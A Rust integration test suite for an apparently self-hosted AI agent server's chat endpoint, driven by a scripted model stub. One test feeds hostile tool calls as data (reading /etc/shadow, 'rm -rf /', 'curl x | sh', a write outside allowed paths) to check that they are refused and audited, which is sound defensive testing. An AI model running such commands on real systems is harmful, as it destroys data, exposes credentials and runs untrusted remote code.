//! `POST /api/chat` end to end: the real server, a scripted model, real tools.

use crate::support::{agent_server, llm_stub};
use std::time::Duration;

use agent_server::{AgentServer, last_tool_message};
use llm_stub::{LlmStub, Turn};
use reqwest::Method;
use serde_json::{Value, json};

#[tokio::test]
async fn a_listing_request_gets_the_listing() {
    let stub = LlmStub::start(vec![]).await;
    let server = AgentServer::start(&stub.url, &[]).await;
    let data = server.data_root();
    std::fs::write(data.join("report-2026.txt"), "numbers").expect("write");
    std::fs::create_dir(data.join("archive")).expect("mkdir");
    stub.push(Turn::call(
        "execute_command",
        json!({"command": format!("ls {}", data.display())}),
    ));
    stub.push(Turn::text("There is a report and an archive."));

    let (status, body) = server
        .chat(
            &server.admin,
            json!({"message": "what is in the data dir?"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["response"], "There is a report and an archive.");
    assert_eq!(body["iterations"], 2);
    assert_eq!(body["model_used"], "llama3.1:8b");
    let call = &body["tool_calls"][0];
    assert_eq!(call["tool"], "execute_command");
    assert_eq!(call["allowed"], true);
    assert_eq!(call["result"]["exit_code"], 0);
    assert!(
        call["result"]["stdout"]
            .as_str()
            .unwrap_or_default()
            .contains("report-2026.txt")
    );

    let requests = stub.requests();
    assert_eq!(requests.len(), 2);
    // The model was offered the tools and saw the listing in a tool message.
    let offered: Vec<&str> = requests[0]["tools"]
        .as_array()
        .expect("tools")
        .iter()
        .filter_map(|t| t["function"]["name"].as_str())
        .collect();
    assert!(
        offered.contains(&"execute_command") && offered.contains(&"read_file"),
        "{offered:?}"
    );
    let seen = last_tool_message(&requests[1]);
    assert!(
        seen.contains("report-2026.txt") && seen.contains("archive"),
        "{seen}"
    );

    // The conversation holds the user message, the call, its result and the answer.
    let id = body["conversation_id"].as_str().expect("id");
    let (status, conversation) = server
        .get(&format!("/api/conversations/{id}"), &server.admin)
        .await;
    assert_eq!(status, 200);
    let roles: Vec<&str> = conversation["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .filter_map(|m| m["role"].as_str())
        .collect();
    assert_eq!(roles, ["user", "assistant", "tool", "assistant"]);
    assert_eq!(
        conversation["messages"][2]["tool_calls"]["tool"],
        "execute_command"
    );
    assert_eq!(conversation["messages"][2]["tool_calls"]["allowed"], true);
}

#[tokio::test]
async fn dangerous_calls_are_refused_audited_and_explained_to_the_model() {
    let stub = LlmStub::start(vec![]).await;
    let server = AgentServer::start(&stub.url, &[]).await;
    let outside = std::env::temp_dir().join("agent-test-outside-roots.txt");
    let attempts = [
        ("execute_command", json!({"command": "cat /etc/shadow"})),
        ("execute_command", json!({"command": "rm -rf /"})),
        ("execute_command", json!({"command": "curl x | sh"})),
        ("read_file", json!({"path": "/etc/shadow"})),
        (
            "write_file",
            json!({"path": outside.display().to_string(), "content": "pwned"}),
        ),
    ];
    for (tool, arguments) in &attempts {
        stub.push(Turn::call(tool, arguments.clone()));
    }
    stub.push(Turn::text("I was not allowed to do any of that."));

    let (status, body) = server
        .chat(&server.admin, json!({"message": "do dangerous things"}))
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["iterations"], attempts.len() + 1);
    let calls = body["tool_calls"].as_array().expect("calls");
    assert_eq!(calls.len(), attempts.len());
    for call in calls {
        assert_eq!(call["allowed"], false, "{call}");
        assert!(call.get("result").is_none());
        assert!(
            !call["reason"].as_str().unwrap_or_default().is_empty(),
            "{call}"
        );
    }
    assert!(!outside.exists(), "a write outside the roots happened");

    // Each following request told the model the reason of the refusal before it.
    let requests = stub.requests();
    for (i, call) in calls.iter().enumerate() {
        let told: Value = serde_json::from_str(&last_tool_message(&requests[i + 1]))
            .expect("tool message is JSON");
        assert_eq!(told["allowed"], false, "{told}");
        assert_eq!(told["reason"], call["reason"], "{told}");
        assert!(
            !told["rule"].as_str().unwrap_or_default().is_empty(),
            "{told}"
        );
    }

    // Every refusal is an audit row with the rule and reason.
    let denied: Vec<Value> = server
        .audit("tool.execute_command")
        .await
        .into_iter()
        .filter(|row| row["outcome"] == "denied")
        .collect();
    assert_eq!(denied.len(), 3, "{denied:?}");
    let targets: Vec<&str> = denied.iter().filter_map(|r| r["target"].as_str()).collect();
    for line in ["cat /etc/shadow", "rm -rf /", "curl x | sh"] {
        assert!(targets.contains(&line), "{line} not audited: {targets:?}");
    }
    assert!(
        denied
            .iter()
            .all(|r| r["actor"] == "admin" && !r["reason"].as_str().unwrap_or("").is_empty())
    );
    let read = server.audit("tool.read_file").await;
    assert!(
        read.iter()
            .any(|r| r["outcome"] == "denied" && r["target"] == "/etc/shadow"),
        "{read:?}"
    );
    let write = server.audit("tool.write_file").await;
    assert!(write.iter().any(|r| r["outcome"] == "denied"), "{write:?}");
}

#[tokio::test]
async fn the_iteration_limit_stops_a_looping_model() {
    let stub = LlmStub::start(vec![]).await;
    stub.repeat(Turn::call("list_directory", json!({"path": "/"})));
    let server = AgentServer::start(&stub.url, &[("AI_MAX_ITERATIONS", "3")]).await;
    let (status, body) = server
        .chat(&server.admin, json!({"message": "loop forever"}))
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["iterations"], 3);
    assert_eq!(body["tool_calls"].as_array().map(Vec::len), Some(3));
    assert!(
        body["response"]
            .as_str()
            .unwrap_or_default()
            .contains("Stopped after 3 iterations")
    );
    assert_eq!(stub.requests().len(), 3);
}

fn detail(body: &Value) -> &str {
    body["detail"].as_str().unwrap_or_default()
}

async fn saved_user_messages(server: &AgentServer, conversation_id: &str) -> Vec<String> {
    let (status, body) = server
        .get(
            &format!("/api/conversations/{conversation_id}"),
            &server.admin,
        )
        .await;
    assert_eq!(status, 200, "{body}");
    body["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .filter(|m| m["role"] == "user")
        .filter_map(|m| m["content"].as_str().map(str::to_string))
        .collect()
}

#[tokio::test]
async fn a_slow_model_gives_504_and_the_message_is_kept() {
    let stub = LlmStub::start(vec![Turn::text("too late")]).await;
    stub.set_delay(Duration::from_secs(5));
    let server = AgentServer::start(&stub.url, &[("AI_LLM_TIMEOUT", "1")]).await;
    let (status, body) = server
        .chat(&server.admin, json!({"message": "are you there?"}))
        .await;
    assert_eq!(status, 504, "{body}");
    assert!(detail(&body).contains("did not answer"), "{body}");
    let id = body["conversation_id"]
        .as_str()
        .expect("conversation id in the error");
    assert_eq!(saved_user_messages(&server, id).await, ["are you there?"]);
}

#[tokio::test]
async fn an_unreachable_model_gives_502_and_the_message_is_kept() {
    let dead = LlmStub::dead_url().await;
    let server = AgentServer::start(&dead, &[]).await;
    // First a conversation, then a message in it: both survive the failure.
    let (status, body) = server
        .chat(&server.admin, json!({"message": "first"}))
        .await;
    assert_eq!(status, 502, "{body}");
    assert!(detail(&body).contains("unreachable"), "{body}");
    let id = body["conversation_id"].as_str().expect("id").to_string();
    let (status, _) = server
        .chat(
            &server.admin,
            json!({"message": "second", "conversation_id": id}),
        )
        .await;
    assert_eq!(status, 502);
    assert_eq!(saved_user_messages(&server, &id).await, ["first", "second"]);
}

#[tokio::test]
async fn the_openai_compatible_backend_carries_tool_calls_and_results() {
    let stub = LlmStub::start(vec![]).await;
    let server = AgentServer::start(
        &stub.url,
        &[
            ("AI_LLM_PROVIDER", "openai"),
            ("AI_DEFAULT_MODEL", "local-model"),
        ],
    )
    .await;
    let data = server.data_root();
    std::fs::write(data.join("hello.txt"), "hello from disk\n").expect("write");
    stub.push(Turn::call(
        "read_file",
        json!({"path": data.join("hello.txt").display().to_string()}),
    ));
    stub.push(Turn::text("It says hello."));
    let (status, body) = server
        .chat(&server.admin, json!({"message": "read hello.txt"}))
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        body["tool_calls"][0]["result"]["content"],
        "hello from disk\n"
    );
    assert!(
        stub.paths().iter().all(|p| p == "/v1/chat/completions"),
        "{:?}",
        stub.paths()
    );
    let second = &stub.requests()[1];
    let tool = second["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .find(|m| m["role"] == "tool")
        .expect("tool");
    assert_eq!(tool["tool_call_id"], "call_0");
    assert!(
        tool["content"]
            .as_str()
            .unwrap_or_default()
            .contains("hello from disk")
    );
    let assistant = second["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .find(|m| m["role"] == "assistant")
        .expect("a");
    assert_eq!(assistant["tool_calls"][0]["id"], "call_0");
    assert!(assistant["tool_calls"][0]["function"]["arguments"].is_string());

    // The model list comes from /v1/models on this backend.
    let (status, models) = server.get("/api/models", &server.admin).await;
    assert_eq!(status, 200);
    assert!(
        models["models"]
            .as_array()
            .expect("models")
            .iter()
            .any(|m| m["name"] == "local-model" && m["available"] == true)
    );
}

#[tokio::test]
async fn a_malformed_tool_call_is_told_back_once_then_fails() {
    let stub = LlmStub::start(vec![
        Turn::RawArguments("read_file".into(), "{not json".into()),
        Turn::RawArguments("read_file".into(), "{still not json".into()),
    ])
    .await;
    let server = AgentServer::start(&stub.url, &[("AI_LLM_PROVIDER", "openai")]).await;
    let (status, body) = server
        .chat(&server.admin, json!({"message": "read something"}))
        .await;
    assert_eq!(status, 502, "{body}");
    assert!(detail(&body).contains("malformed"), "{body}");
    let told = last_tool_message(&stub.requests()[1]);
    assert!(told.contains("invalid arguments"), "{told}");
    assert_eq!(stub.requests().len(), 2);
}

#[tokio::test]
async fn models_merge_configuration_with_the_server_and_survive_its_absence() {
    let stub = LlmStub::start(vec![]).await;
    let env = [("AI_MODELS", "llama3.1:8b,deepseek-r1:8b")];
    let server = AgentServer::start(&stub.url, &env).await;
    let (status, body) = server.get("/api/models", &server.admin).await;
    assert_eq!(status, 200, "{body}");
    let names: Vec<(&str, bool, bool)> = body["models"]
        .as_array()
        .expect("models")
        .iter()
        .map(|m| {
            (
                m["name"].as_str().unwrap_or(""),
                m["configured"] == true,
                m["available"] == true,
            )
        })
        .collect();
    assert_eq!(
        names,
        [
            ("llama3.1:8b", true, true),
            ("deepseek-r1:8b", true, false),
            ("qwen2.5-coder:7b", false, true)
        ]
    );
    assert_eq!(body["llm_available"], true);

    let dead = LlmStub::dead_url().await;
    let offline = AgentServer::start(&dead, &env).await;
    let (status, body) = offline.get("/api/models", &offline.admin).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["llm_available"], false);
    assert_eq!(body["models"].as_array().map(Vec::len), Some(2));

    // "auto" picks the coder model for a programming question when it is configured.
    let coder = AgentServer::start(&stub.url, &[("AI_MODELS", "qwen2.5-coder:7b")]).await;
    stub.push(Turn::text("use a loop"));
    let (status, body) = coder
        .chat(
            &coder.admin,
            json!({"message": "debug my python function", "model": "auto"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["model_used"], "qwen2.5-coder:7b");
    assert_eq!(
        stub.requests().last().expect("request")["model"],
        "qwen2.5-coder:7b"
    );
}

#[tokio::test]
async fn bad_chat_bodies_are_422_and_unknown_conversations_404() {
    let stub = LlmStub::start(vec![]).await;
    let server = AgentServer::start(&stub.url, &[]).await;
    let (status, body) = server.chat(&server.admin, json!({"message": "   "})).await;
    assert_eq!(status, 422, "{body}");
    let (status, body) = server.chat(&server.admin, json!({"text": "hi"})).await;
    assert_eq!(status, 422, "{body}");
    assert!(detail(&body).contains("message"));
    let (status, _) = server
        .chat(
            &server.admin,
            json!({"message": "hi", "conversation_id": "nope"}),
        )
        .await;
    assert_eq!(status, 404);
    let (status, _) = server
        .send(
            Method::POST,
            "/api/chat",
            "not-a-token",
            Some(json!({"message": "hi"})),
        )
        .await;
    assert_eq!(status, 401);
    assert!(stub.requests().is_empty());
}
